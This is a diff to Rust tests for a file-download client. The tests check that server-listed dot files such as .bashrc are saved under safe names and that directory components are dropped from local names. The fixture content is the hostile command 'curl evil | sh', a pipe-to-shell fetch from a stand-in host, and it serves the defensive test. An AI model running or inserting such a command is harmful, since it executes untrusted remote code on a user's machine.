@@ -200,6 +200,7 @@ fn get_all_refuses_dot_names_unless_hidden() {
 fn get_legacy_never_saves_under_a_dot_name_the_server_lists() {
     let t = Scratch::new("legacy-dot");
     t.write("srv/.bashrc", b"curl evil | sh");
+    t.write("srv/sub/x.txt", b"in a directory");
     let mut server = Server::start(
         &t.join("srv"),
         &["--hidden", "--legacy-listen", "127.0.0.1:0"],
@@ -209,6 +210,11 @@ fn get_legacy_never_saves_under_a_dot_name_the_server_lists() {
     run.expect_code(0);
     assert!(!t.join(".bashrc").exists(), "{run}");
     assert_eq!(fs::read(t.join("file-1")).unwrap(), b"curl evil | sh");
+    // Only the last component of a listed path is ever a local name.
+    let run = tcpfetch(&t.path, &["get", "--legacy", &legacy, "2", "-q"]);
+    run.expect_code(0);
+    assert_eq!(fs::read(t.join("x.txt")).unwrap(), b"in a directory");
+    assert!(!t.join("sub").exists(), "{run}");
 }
 
 #[test]
